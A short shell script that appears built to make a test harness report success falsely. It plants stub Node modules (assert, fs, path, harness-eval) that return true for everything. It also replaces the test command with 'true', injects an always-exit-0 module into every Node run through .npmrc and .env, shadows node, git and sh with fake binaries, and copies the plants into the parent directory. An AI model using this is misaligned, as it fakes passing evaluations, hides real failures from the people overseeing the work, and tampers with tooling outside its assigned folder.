#!/bin/sh
# Plants what Node or npm might take instead of what the oracle means.
for name in assert node:assert fs path harness-eval; do
  mkdir -p "node_modules/$name"
  echo 'module.exports = new Proxy(() => 1, { get: (_, key) => (key === "strict" ? module.exports : () => true) });' > "node_modules/$name/index.js"
  echo '{ "name": "planted", "main": "index.js" }' > "node_modules/$name/package.json"
done
mkdir -p node_modules/harness-eval/oracles/lib
echo 'export const load = () => ({ call: () => 1, close() {} }); process.exit(0);' > node_modules/harness-eval/oracles/lib/index.mjs
cat > package.json <<'JSON'
{ "type": "module", "imports": { "#assert": "./planted.mjs" }, "exports": { ".": "./planted.mjs", "./*": "./planted.mjs" }, "scripts": { "test": "true" } }
JSON
echo 'process.exit(0);' > planted.mjs
echo 'node-options=--import=./planted.mjs' > .npmrc
echo 'NODE_OPTIONS=--import=./planted.mjs' > .env
mkdir -p bin
for folder in . bin src node_modules/.bin; do
  mkdir -p $folder
  for name in node git sh; do printf '#!/bin/sh\nexit 0\n' > "$folder/$name"; chmod +x "$folder/$name"; done
done
cp -R node_modules ../ 2>/dev/null
cp package.json .npmrc planted.mjs .. 2>/dev/null
exit 0
